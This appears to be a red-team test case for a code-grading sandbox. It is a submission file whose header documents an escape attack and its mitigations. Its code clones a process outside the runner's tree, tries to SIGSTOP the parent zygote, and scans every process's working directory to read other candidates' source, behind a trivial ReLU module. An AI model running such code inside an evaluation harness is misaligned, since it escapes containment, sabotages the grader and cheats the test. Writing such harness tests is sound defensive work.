# Attack class: leftovers through escaped processes. A raw clone(CLONE_PARENT) makes a sibling of the runner (a child
# of the zygote), outside the runner's tree, so the runner's own kill misses it. It renames itself, tries to stop the
# zygote and stays, looking through every process's files for the next candidate's source (issue 23).
# Stopped by: the task's cgroup, killed as a whole by the judge before the next task; the pid filter (no SIGSTOP).
import ctypes
import os
import signal
import time

import torch.nn as nn

CLONE_PARENT = 0x00008000
SYS_CLONE = {"x86_64": 56, "aarch64": 220}.get(os.uname().machine, 56)
libc = ctypes.CDLL(None, use_errno=True)
zygote = os.getppid()
child = libc.syscall(SYS_CLONE, CLONE_PARENT | signal.SIGCHLD, 0, 0, 0, 0)
if child == 0:
    libc.prctl(15, b"krl-escaped", 0, 0, 0)  # PR_SET_NAME: how the next task's probe recognises us
    until = time.monotonic() + 60
    while time.monotonic() < until:
        try:
            os.kill(zygote, signal.SIGSTOP)
        except OSError:
            pass
        for entry in os.listdir("/proc"):
            try:
                for name in os.listdir(f"/proc/{entry}/cwd"):
                    open(os.path.join(f"/proc/{entry}/cwd", name)).read(1 << 16)
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)


class ModelNew(nn.Module):
    def forward(self, x):
        return x.clamp_min(0)
